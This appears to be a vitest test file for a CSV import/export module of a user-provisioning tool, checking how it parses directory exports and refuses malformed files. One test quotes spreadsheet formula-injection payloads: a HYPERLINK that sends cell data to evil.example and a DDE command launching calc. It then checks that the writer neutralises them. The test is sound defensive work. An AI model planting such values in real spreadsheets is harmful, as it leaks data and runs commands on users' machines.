// The fixture corpus (test/fixtures/csv, see its README.md): real-world exports and hostile files.
import { readdirSync, readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import type { CsvTable, ReadResult } from "../types.ts";
import { readCsv } from "./read.ts";
import { writeCsv } from "./write.ts";

const dir = new URL("../../../test/fixtures/csv/", import.meta.url);
const load = (name: string): ReadResult => readCsv(readFileSync(new URL(name, dir)), { maxRows: 5000 });

function table(name: string): CsvTable {
  const result = load(name);
  if (!result.ok) throw new Error(`${name} refused: ${result.refusal.message}`);
  return result.table;
}

const mappedFields = (t: CsvTable) => t.columns.filter((c) => c.field !== null).map((c) => c.field);

describe("fixture corpus", () => {
  it("lists every fixture file in the README", () => {
    const readme = readFileSync(new URL("README.md", dir), "utf8");
    for (const file of readdirSync(dir).filter((f) => f.endsWith(".csv"))) expect(readme).toContain(file);
  });

  it("entra-bulk-create.csv: version preamble, bracketed properties, Block sign in", () => {
    const t = table("entra-bulk-create.csv");
    expect(t.warnings).toEqual([]);
    expect(t.records.map(({ row, line }) => ({ row, line }))).toEqual([
      { row: 1, line: 3 },
      { row: 2, line: 4 },
    ]);
    expect(t.records[0]!.values).toMatchObject({
      displayName: "Alain Charon",
      email: "alain.charon@contoso.com",
      password: "Password1!",
      blockSignIn: "No",
      usageLocation: "US",
      office: "Building 40",
      phone: "+1 425 555 0100",
    });
    expect(t.records[1]!.values).toMatchObject({
      blockSignIn: "Yes",
      postalCode: "02100",
      streetAddress: "",
    });
  });

  it("google-workspace-export.csv: decorated headers, ignored upload-only columns named in warnings", () => {
    const t = table("google-workspace-export.csv");
    expect(mappedFields(t)).toEqual([
      "firstName",
      "lastName",
      "email",
      "password",
      // Home Secondary Email: where welcome messages go (Recovery Email loses to it, with a warning).
      "personalEmail",
      "phone",
      "homePhone",
      "mobile",
      "streetAddress",
      "employeeId",
      "employeeType",
      "jobTitle",
      "manager",
      "department",
      "costCenter",
      "forceChangePassword",
    ]);
    expect(t.warnings).toHaveLength(11);
    expect(t.warnings[0]).toBe(
      "Column 'Password Hash Function [UPLOAD ONLY]' was ignored: password hashes cannot be imported; the Password column is read as plain text.",
    );
    expect(t.records[0]!.values).toMatchObject({
      email: "jane.smith@example.org",
      streetAddress: "500 Market St, San Francisco, CA",
      employeeId: "00042",
      forceChangePassword: "FALSE",
    });
    expect(t.records[1]!.values.manager).toBe("jane.smith@example.org");
  });

  it("okta-export.csv: login is the e-mail, managerId the manager", () => {
    const t = table("okta-export.csv");
    expect(t.records[1]!.values).toMatchObject({ email: "lee.park@example.io", manager: "", country: "KR" });
    expect(t.records[0]!.values).toMatchObject({ manager: "lee.park@example.io", company: "Example Ltd" });
    expect(t.warnings).toEqual([
      "Column 'email' was ignored: 'login' is used for email.",
      "Column 'secondEmail' is not recognised and was ignored.",
      "Column 'manager' was ignored: 'managerId' is used for manager.",
    ]);
  });

  it("ad-export-utf16le.csv: UTF-16LE, #TYPE line, quoted cells, friendly names over LDAP twins, Enabled ignored", () => {
    const t = table("ad-export-utf16le.csv");
    expect(t.encoding).toBe("utf-16le");
    expect(t.header[0]).toBe("GivenName");
    expect(t.records[0]).toMatchObject({
      row: 1,
      line: 3,
      values: {
        firstName: "José",
        lastName: "García",
        username: "jgarcia",
        email: "jose.garcia@corp.example.com",
        manager: "CN=Jane Smith,OU=Users,DC=corp,DC=example,DC=com",
        employeeId: "00117",
        country: "ES",
      },
    });
    expect(t.warnings).toContain(
      "Column 'Enabled' was ignored: it means the opposite of Block sign in; add a 'Block sign in' column (Yes = blocked) or use the disable operation.",
    );
    expect(t.warnings).toContain("Column 'mail' was ignored: 'UserPrincipalName' is used for email.");
    expect(mappedFields(t)).not.toContain("blockSignIn");
  });

  it("excel-windows-1252.csv: accented names and the euro sign", () => {
    const t = table("excel-windows-1252.csv");
    expect(t.encoding).toBe("windows-1252");
    expect(t.records.map((r) => r.values.displayName)).toEqual(["José Müller", "Zoë Lefèvre"]);
    expect(t.records[0]!.values.notes).toBe("Budget 5 000 €");
    expect(t.records[1]!.values).toMatchObject({
      department: "Œuvre sociale",
      notes: "“Smart quotes” – and a dash",
    });
  });

  it("excel-semicolon.csv: semicolon-delimited, commas are data", () => {
    const t = table("excel-semicolon.csv");
    expect(t.delimiter).toBe(";");
    expect(t.records.map((r) => r.values.displayName)).toEqual(["Müller, Hans", "Schmidt; Anna"]);
  });

  it("excel-sep-hint.csv: the sep= line picks the delimiter and counts as a line", () => {
    const t = table("excel-sep-hint.csv");
    expect(t.delimiter).toBe(";");
    expect(t.records.map((r) => [r.line, r.values.email])).toEqual([
      [3, "ann@example.com"],
      [4, "bob@example.com"],
    ]);
  });

  it("utf16be-bom.csv: UTF-16BE with BOM, non-Latin text", () => {
    const t = table("utf16be-bom.csv");
    expect(t.encoding).toBe("utf-16be");
    expect(t.records[1]!.values).toEqual({
      email: "kenji@example.jp",
      displayName: "山田 健二",
      city: "東京",
    });
  });

  it("tab-delimited.csv", () => {
    const t = table("tab-delimited.csv");
    expect(t.delimiter).toBe("\t");
    expect(t.records.map((r) => r.values.lastName)).toEqual(["Jones, Jr.", "Lee"]);
  });

  it("outlook-import-errors.csv: Failure Reason ignored silently, Name is the username", () => {
    const t = table("outlook-import-errors.csv");
    expect(t.warnings).toEqual([]);
    expect(t.columns[0]).toEqual({ index: 0, header: "Failure Reason", field: null });
    expect(t.records[1]!.values).toMatchObject({ username: "rkhan", email: "riya.khan@example.com" });
  });

  it("outlook-live-template.csv: every column recognised", () => {
    const t = table("outlook-live-template.csv");
    expect(t.warnings).toEqual([]);
    expect(t.columns.every((c) => c.field !== null)).toBe(true);
    expect(t.records[0]!.values).toMatchObject({ customAttribute15: "custom 15", postalCode: "100000" });
  });

  it("m365-admin-center.csv: User Name is the e-mail", () => {
    const t = table("m365-admin-center.csv");
    expect(t.records[0]!.values).toMatchObject({
      email: "chris@contoso.com",
      office: "123451",
      country: "United States",
    });
    // The admin center's name for Entra's otherMails: where welcome messages go.
    expect(t.records[0]!.values.personalEmail).toBe("chris.personal@example.net");
    expect(t.warnings).toEqual([]);
  });

  it("bulkusers-results.csv: our results re-upload as is, formula prefixes dropped", () => {
    const t = table("bulkusers-results.csv");
    expect(t.warnings).toEqual([]);
    expect(t.records.map((r) => r.values.notes)).toEqual(["", "=1+1", "'=literal"]);
    expect(t.records[2]!.values).toMatchObject({ displayName: "-Lee-", department: "@platform" });
    // Re-emitting what we read reproduces the file byte for byte.
    expect(
      Buffer.from(
        writeCsv(
          t.header,
          t.records.map((r) => r.cells),
        ),
      ),
    ).toEqual(readFileSync(new URL("bulkusers-results.csv", dir)));
  });

  it("ragged.csv: short, long, blank and whitespace-only records", () => {
    const t = table("ragged.csv");
    expect(t.records.map((r) => ({ row: r.row, line: r.line, extra: r.extraCells }))).toEqual([
      { row: 1, line: 2, extra: [] },
      { row: 2, line: 3, extra: [] },
      { row: 3, line: 4, extra: [] },
      { row: 4, line: 8, extra: ["EXTRA", "more"] },
      { row: 5, line: 9, extra: [] },
    ]);
    expect(t.records[1]!.values).toEqual({
      email: "b@example.com",
      firstName: "Bob",
      lastName: "",
      department: "",
    });
    expect(t.records[4]!.values).toEqual({
      email: "e@example.com",
      firstName: "Eve",
      lastName: "",
      department: "HR",
    });
  });

  it("hostile.csv: formulas arrive as text for the planner to reject; big and multi-line cells intact", () => {
    const t = table("hostile.csv");
    const [r1, r2, r3] = t.records;
    expect(r1!.values).toMatchObject({
      displayName: '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
      notes: "@SUM(1+1)",
      jobTitle: "+cmd|' /C calc'!A0",
    });
    expect(r2!.values.displayName).toBe("-2+3");
    expect(r2!.values.department).toBe('Line one\nLine two, with a comma and "quotes"');
    expect(r2!.values.notes).toHaveLength(10 * 1024);
    expect(r3).toMatchObject({ row: 3, line: 5 });
    expect(r3!.values).toMatchObject({
      displayName: "=1+1",
      department: "=2+2",
      notes: "=already neutralised",
    });
    // Written back out, none of it can run in a spreadsheet.
    const out = Buffer.from(
      writeCsv(
        t.header,
        t.records.map((r) => r.cells),
      ),
    ).toString("utf8");
    expect(out).toContain(`'=HYPERLINK`);
    expect(out).toContain(`'@SUM(1+1)`);
    expect(out).toContain(`'-2+3`);
  });

  it.each([
    ["xlsx-renamed.csv", "csv.binary"],
    ["unterminated-quote.csv", "csv.malformed"],
    ["empty.csv", "csv.empty"],
    ["whitespace-only.csv", "csv.empty"],
    ["header-only.csv", "csv.no_rows"],
  ])("%s is refused with %s", (name, code) => {
    expect(load(name)).toMatchObject({ ok: false, refusal: { code } });
  });

  it("unterminated-quote.csv names line 3", () => {
    expect(load("unterminated-quote.csv")).toMatchObject({
      refusal: { message: expect.stringContaining("line 3") },
    });
  });
});

describe("shared samples", () => {
  it.each([
    ["create-template.csv", 1],
    ["leavers-disable.csv", 2],
    ["license-migration.csv", 2],
    ["new-hires.csv", 4],
    ["reorg-update.csv", 2],
  ])("samples/%s: every column recognised, %i rows", (name, rows) => {
    const t = table(`samples/${name}`);
    expect(t.warnings).toEqual([]);
    expect(t.columns.every((c) => c.field !== null)).toBe(true);
    expect(t.records).toHaveLength(rows);
  });

  it("samples/new-hires.csv: quoted comma, escaped quotes, empty license", () => {
    const t = table("samples/new-hires.csv");
    expect(t.records[3]!.values).toEqual({
      email: "lee.park@company.com",
      displayName: "Park, Lee",
      firstName: "Lee",
      lastName: "Park",
      department: "Engineering",
      jobTitle: 'Engineer "II"',
      manager: "amara.obi@company.com",
      license: "",
    });
  });
});
